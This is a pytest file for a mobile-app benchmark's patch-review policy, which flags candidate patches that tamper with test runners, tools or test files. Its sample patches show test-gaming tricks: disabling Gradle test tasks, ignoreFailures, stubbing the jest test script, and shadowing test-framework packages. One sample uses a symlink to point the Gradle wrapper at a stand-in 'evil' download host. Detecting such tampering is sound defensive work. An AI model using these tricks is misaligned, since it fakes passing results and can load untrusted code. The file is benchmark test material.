"""What a candidate may not change, per framework, from the parsed patch (tools, runner configuration,
test files). Pure: patch text and configuration bytes in, findings out."""

from __future__ import annotations

import json

import pytest

from pytest_mobilebench import frameworks
from pytest_mobilebench.patch import parse_patch
from pytest_mobilebench.suites.issue_resolution.policy import Review, review, touched_test_files

RN = frameworks.get("react-native")
ANDROID = frameworks.get("android")
FLUTTER = frameworks.get("flutter")


def _diff(path: str, old: str, new: str) -> str:
    return f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-{old}\n+{new}\n"


def _new(path: str, *lines: str) -> str:
    body = "".join(f"+{line}\n" for line in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
        f"@@ -0,0 +1,{len(lines)} @@\n{body}"
    )


def _review(
    fw: frameworks.Framework, patch: str, before: dict | None = None, after: dict | None = None, **kw
) -> Review:
    before = before or {}
    return review(parse_patch(patch), fw, before=before, after=after if after is not None else before, **kw)


def test_touched_test_files_follow_each_runner_rule() -> None:
    patch = (
        _diff("src/app.ts", "a", "b") + _diff("src/app.test.ts", "a", "b") + _diff("test/widget_test.dart", "a", "b")
        + _diff("__tests__/App-test.js", "a", "b") + _diff("src/x.spec.tsx", "a", "b")
        + _diff("app/src/sharedTest/java/A.kt", "a", "b") + _diff("app/src/testDebug/java/B.kt", "a", "b")
        + _diff("lib/src/testFixtures/C.kt", "a", "b") + _diff("core/src/testFixtures/java/D.kt", "a", "b")
    )  # fmt: skip
    info = parse_patch(patch)
    assert touched_test_files(info, RN.test_rule({})) == ["__tests__/App-test.js", "src/app.test.ts", "src/x.spec.tsx"]
    assert touched_test_files(info, FLUTTER.test_rule({})) == ["test/widget_test.dart"]
    assert touched_test_files(info, ANDROID.test_rule({})) == [
        "app/src/sharedTest/java/A.kt", "app/src/testDebug/java/B.kt", "core/src/testFixtures/java/D.kt",
        "lib/src/testFixtures/C.kt",
    ]  # fmt: skip


def test_jest_test_match_from_the_project_replaces_the_defaults() -> None:
    config = {"package.json": json.dumps({"jest": {"testMatch": ["<rootDir>/checks/**/*.check.js"]}}).encode()}
    rule = RN.test_rule(config)
    assert rule("checks/a/b.check.js") and not rule("src/a.test.js")
    js = {"jest.config.js": b"module.exports = {\n  testRegex: '/specs/.*\\\\.js$',\n};\n"}
    rule = RN.test_rule(js)
    assert rule("specs/x.js") and not rule("src/x.test.js")
    assert RN.test_rule({})("src/__snapshots__/x.test.js.snap")  # snapshots are test data


def test_jest_section_of_package_json() -> None:
    before = {"name": "app", "jest": {"preset": "react-native", "setupFiles": ["<rootDir>/jest/setup.js"]}}
    after = {**before, "jest": {**before["jest"], "testPathIgnorePatterns": ["__tests__/hard"]}}
    found = _review(RN, _diff("package.json", "x", "y"), {"package.json": json.dumps(before).encode()},
                    {"package.json": json.dumps(after).encode()})  # fmt: skip
    assert found.violations == ["changed the 'jest' value of package.json"]
    assert found.restore == ["package.json"] and found.flags == ["runner_config_touched"]


def test_dependency_bump_in_package_json_is_allowed() -> None:
    before = {"dependencies": {"a": "1.0.0"}, "jest": {"preset": "react-native"}}
    after = {"dependencies": {"a": "1.0.1"}, "jest": {"preset": "react-native"}}
    found = _review(RN, _diff("package.json", "x", "y"), {"package.json": json.dumps(before).encode()},
                    {"package.json": json.dumps(after).encode()})  # fmt: skip
    assert found.violations == [] and found.restore == []


@pytest.mark.parametrize(
    ("config", "path"),
    [
        ({"jest.config.js": b"module.exports = { setupFiles: ['<rootDir>/jest/setup'] }"}, "jest/setup.js"),
        ({"jest.config.ts": b"export default { setupFilesAfterEnv: ['./test/after-env.ts'] }"}, "test/after-env.ts"),
        ({"jest.config.cts": b"module.exports = { testEnvironment: '<rootDir>/env' }"}, "env/index.js"),
        ({"package.json": b'{"jest": {"globalSetup": "<rootDir>/setup/global.js"}}'}, "setup/global.js"),
        (
            {"package.json": b'{"jest": "./config/jest.json"}', "config/jest.json": b'{"setupFiles": ["./s.js"]}'},
            "s.js",
        ),
        ({"package.json": b'{"jest": "./config/jest.json"}'}, "config/jest.json"),
        ({}, "jest.config.cts"),
        ({}, "babel.config.js"),
        ({}, ".babelrc"),
        ({}, "__mocks__/react-native.js"),
        ({}, "src/__mocks__/axios.js"),  # jest uses it for the npm package axios, from any depth
        ({}, "packages/app/src/__mocks__/@scope/pkg.js"),
    ],
)
def test_jest_runner_configuration_is_watched(config: dict[str, bytes], path: str) -> None:
    found = _review(RN, _diff(path, "a", "b"), config)
    assert len(found.violations) == 1 and path in found.violations[0]
    assert found.restore == [path]


def test_scripts_the_plan_runs_and_runner_package_overrides() -> None:
    before = {"scripts": {"test": "jest", "lint": "eslint"}, "resolutions": {"jest-environment-node": "29.0.0"}}
    after = {"scripts": {"test": "true", "lint": "x"}, "resolutions": {"jest-environment-node": "file:./fake"}}
    found = _review(RN, _diff("package.json", "x", "y"), {"package.json": json.dumps(before).encode()},
                    {"package.json": json.dumps(after).encode()}, plan_command="npm test -- --json")  # fmt: skip
    assert found.violations == [
        "changed the package.json script 'test' the test command runs",
        "changed package.json resolutions of test-runner package 'jest-environment-node'",
    ]
    shadow = _review(RN, _new("packages/fake/package.json", "{", '  "name": "@jest/reporters"', "}"))
    assert shadow.violations == [
        "packages/fake/package.json names its package '@jest/reporters', shadowing a test-runner package",
        "changed the module identity of packages/fake/package.json (name)",
    ]


@pytest.mark.parametrize("key", ["name", "exports", "imports", "main", "type", "workspaces", "browser"])
def test_the_root_package_identity_is_runner_configuration(key: str) -> None:
    """Issue 31 item 2: ``"name": "jest-environment-node"`` plus an ``exports`` map made jest's resolver load the
    repository's own class as the test environment (self-reference); every identity key is watched."""
    before = {"name": "counter", "scripts": {"test": "jest"}}
    after = {**before, key: "jest-environment-node" if key == "name" else {".": "./src/env.js"}}
    found = _review(RN, _diff("package.json", "x", "y"), {"package.json": json.dumps(before).encode()},
                    {"package.json": json.dumps(after).encode()})  # fmt: skip
    assert len(found.violations) == 1 and f"changed the {key!r} value of package.json" in found.violations[0]
    assert found.restore == ["package.json"]


def test_a_nested_package_identity_is_runner_configuration() -> None:
    found = _review(
        RN, _new("packages/ui/package.json", "{", '  "main": "./x.js",', '  "exports": {"./a": "./a.js"}', "}")
    )
    assert found.violations == ["changed the module identity of packages/ui/package.json (exports, main)"]
    assert found.restore == ["packages/ui/package.json"]
    assert _review(RN, _new("packages/ui/package.json", "{", '  "version": "1.0.0"', "}")).violations == []


def test_a_nested_package_identity_on_one_line_or_escaped_is_runner_configuration() -> None:
    """A nested package.json written on one line, or with a key spelled through JSON escapes, names the package
    all the same (node and jest's resolver read it parsed)."""
    one_line = _new("src/env/package.json", '{"version": "1.0.0", "name": "x", "exports": "./e.js"}')
    assert _review(RN, one_line).violations == ["changed the module identity of src/env/package.json (exports, name)"]
    escaped = _new("src/env/package.json", "{", '  "m\\u0061in": "./e.js"', "}")
    assert _review(RN, escaped).violations == ["changed the module identity of src/env/package.json (main)"]


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("node_modules/jest-circus/build/run.js", "inside node_modules/"),
        ("app/build/test-results/TEST-x.xml", "inside build/"),
        (".gradle/caches/x", "inside .gradle/"),
        (".npmrc", "package manager"),
        (".yarnrc.yml", "package manager"),
        (".yarn/releases/yarn-4.cjs", "inside .yarn/"),
        (".mobilebench/jest-results.json", "inside .mobilebench/"),
    ],
)
def test_tools_of_react_native(path: str, kind: str) -> None:
    found = _review(RN, _new(path, "x"))
    assert len(found.tools) == 1 and kind in found.tools[0][1] and found.flags == ["tools_touched"]


@pytest.mark.parametrize(
    "path", ["gradlew", "gradle/wrapper/gradle-wrapper.properties", "local.properties", "app/build/x"]
)
def test_tools_of_android(path: str) -> None:
    assert _review(ANDROID, _new(path, "x")).tools


@pytest.mark.parametrize(
    "path", ["android/gradlew", "android/gradlew.bat", "android/gradle/wrapper/gradle-wrapper.jar"]
)
def test_the_gradle_entry_point_is_a_tool_for_every_framework(path: str) -> None:
    """A React-Native or Flutter project's ``android/`` folder holds a Gradle wrapper too: never applied."""
    for framework in (RN, FLUTTER, ANDROID):
        found = _review(framework, _new(path, "x"))
        assert [m for _, m in found.tools] == [f"{path} is the Gradle entry point or its wrapper"], framework.name


def test_a_name_through_a_link_the_patch_creates_is_a_tool() -> None:
    """``foo -> gradle`` (harmless alone) then ``foo/wrapper/gradle-wrapper.properties``: the ``patch``
    fallback would write the wrapper through the link; the section is never applied."""
    link = (
        "diff --git a/foo b/foo\nnew file mode 120000\n--- /dev/null\n+++ b/foo\n@@ -0,0 +1 @@\n+gradle\n"
        "\\ No newline at end of file\n"
    )
    through = (
        "diff --git a/foo/wrapper/gradle-wrapper.properties b/foo/wrapper/gradle-wrapper.properties\n"
        "--- a/foo/wrapper/gradle-wrapper.properties\n+++ b/foo/wrapper/gradle-wrapper.properties\n"
        "@@ -1 +1 @@\n-distributionUrl=https\\://services.gradle.org/x.zip\n+distributionUrl=https\\://evil/x.zip\n"
    )
    for framework in (ANDROID, FLUTTER, RN):
        found = _review(framework, link + through)
        assert [m for _, m in found.tools] == [
            "foo/wrapper/gradle-wrapper.properties goes through the symbolic link foo the patch creates"
        ], framework.name
    assert not _review(ANDROID, link + _diff("src/foo.kt", "a", "b")).tools  # a name beside the link is fine


def test_ignored_at_base_and_links_into_tools_are_tools() -> None:
    assert _review(RN, _new("generated/x.js", "a"), ignored=["generated/x.js"]).tools
    link = (
        "diff --git a/src/x b/src/x\nnew file mode 120000\n--- /dev/null\n+++ b/src/x\n@@ -0,0 +1 @@\n"
        "+../node_modules/jest\n\\ No newline at end of file\n"
    )
    assert _review(RN, link).tools


@pytest.mark.parametrize(
    "line",
    [
        "    testOptions { unitTests.isReturnDefaultValues = true }",
        'tasks.named("testDebugUnitTest") { enabled = false }',
        "tasks.withType<Test> { ignoreFailures = true }",
        "configurations.all { resolutionStrategy.dependencySubstitution { "
        'substitute(module("junit:junit")).using(project(":fake")) } }',
        "apply from: 'scripts/hooks.txt'",
    ],
)
def test_gradle_test_lines_read_from_parsed_hunks(line: str) -> None:
    patch = (
        "diff --git a/app/build.gradle.kts b/app/build.gradle.kts\n--- a/app/build.gradle.kts\n"
        "+++ b/app/build.gradle.kts\n"
        f'@@ -1,3 +1,4 @@\n android {{\n+{line}\n     namespace = "x"\n }}\n'
        + _diff("app/src/main/java/A.kt", "a", "b")
    )
    found = _review(ANDROID, patch)
    assert len(found.violations) == 1 and "app/build.gradle.kts" in found.violations[0]
    assert found.restore == ["app/build.gradle.kts"]


def test_gradle_plain_changes_and_gradle_apply_are_allowed() -> None:
    assert (
        _review(ANDROID, _diff("app/build.gradle.kts", 'implementation("a:b:1")', 'implementation("a:b:2")')).violations
        == []
    )
    assert _review(ANDROID, _diff("build.gradle", "x", "apply from: 'gradle/common.gradle'")).violations == []


def test_a_content_line_starting_with_plus_plus_hides_nothing() -> None:
    """Raw-line scanners read '+++ b/x' inside a hunk as a new file header; parsed hunks do not."""
    patch = (
        "diff --git a/notes.txt b/notes.txt\n--- a/notes.txt\n+++ b/notes.txt\n@@ -1 +1,2 @@\n a\n+++ b/README\n"
        "diff --git a/build.gradle b/build.gradle\n--- a/build.gradle\n+++ b/build.gradle\n@@ -1 +1,2 @@\n x\n"
        "+tasks.withType(Test) { ignoreFailures = true }\n"
    )
    assert len(_review(ANDROID, patch).violations) == 1


def test_sources_shadowing_test_frameworks() -> None:
    found = _review(
        ANDROID, _new("app/src/main/java/org/junit/Assert.java", "package org.junit;", "public class Assert {}")
    )
    assert found.violations == [
        "app/src/main/java/org/junit/Assert.java declares a test framework's package: package org.junit;"
    ]
    assert _review(ANDROID, _new("lib/src/main/kotlin/M.kt", "package io.mockk", "fun x() = 1")).violations


def test_flutter_configuration_overrides_and_shadow_packages() -> None:
    assert _review(FLUTTER, _diff("test/flutter_test_config.dart", "a", "b")).violations == [
        "changed Flutter test configuration test/flutter_test_config.dart"
    ]
    before = {"pubspec.yaml": b"name: app\ndependencies:\n  http: ^1.0.0\n"}
    after = {
        "pubspec.yaml": b"name: app\ndependencies:\n  http: ^1.0.0\ndependency_overrides:\n  test:\n    path: fake\n"
    }
    assert _review(FLUTTER, _diff("pubspec.yaml", "a", "b"), before, after).violations == [
        "changed dependency_overrides of pubspec.yaml"
    ]
    assert _review(FLUTTER, _new("fake/pubspec.yaml", "name: flutter_test")).violations
    nested = _new("packages/a/pubspec.yaml", "name: a", "dependency_overrides:", "  test:", "    path: ../../fake")
    assert _review(FLUTTER, nested).violations == ["changed dependency_overrides of packages/a/pubspec.yaml"]
    assert _review(FLUTTER, _new(".dart_tool/package_config.json", "{}")).tools


def test_a_tracked_source_folder_called_build_is_project_source() -> None:
    change = _diff("scripts/build/release.sh", "a", "b")
    assert _review(RN, change).tools  # untracked under build/: an output
    assert not _review(RN, change, tracked=["scripts/build/release.sh"]).tools
    assert _review(RN, _diff("node_modules/jest/bin.js", "a", "b"), tracked=["node_modules/jest/bin.js"]).tools


def test_folder_options_of_jest_do_not_watch_the_sources() -> None:
    config = {"jest.config.js": b"module.exports = { roots: ['<rootDir>/src'], setupFiles: ['<rootDir>/jest/setup'] };"}
    assert _review(RN, _diff("src/index.js", "a", "b"), config).violations == []
    assert _review(RN, _diff("jest/setup.js", "a", "b"), config).violations


@pytest.mark.parametrize(
    "line",
    [
        'testImplementation("junit:junit:4.13.2")',
        'testInstrumentationRunner = "androidx.test.runner.AndroidJUnitRunner"',
        "jacocoTestReport { reports { xml.required = true } }",
        'implementation(project(":core:testing"))',
    ],
)
def test_ordinary_gradle_lines_are_not_runner_configuration(line: str) -> None:
    assert _review(ANDROID, _diff("app/build.gradle.kts", "// x", line)).violations == []


def test_module_resolution_of_tsconfig_is_runner_configuration() -> None:
    before = {"tsconfig.json": b'{"compilerOptions": {"strict": true, "paths": {"@app/*": ["src/*"]}}}'}
    moved = {"tsconfig.json": b'{"compilerOptions": {"strict": true, "paths": {"@app/*": ["fake/*"]}}}'}
    stricter = {"tsconfig.json": b'{"compilerOptions": {"strict": false, "paths": {"@app/*": ["src/*"]}}}'}
    found = _review(RN, _diff("tsconfig.json", "a", "b"), before, moved)
    assert len(found.violations) == 1 and "module resolution" in found.violations[0]
    assert _review(RN, _diff("tsconfig.json", "a", "b"), before, stricter).violations == []
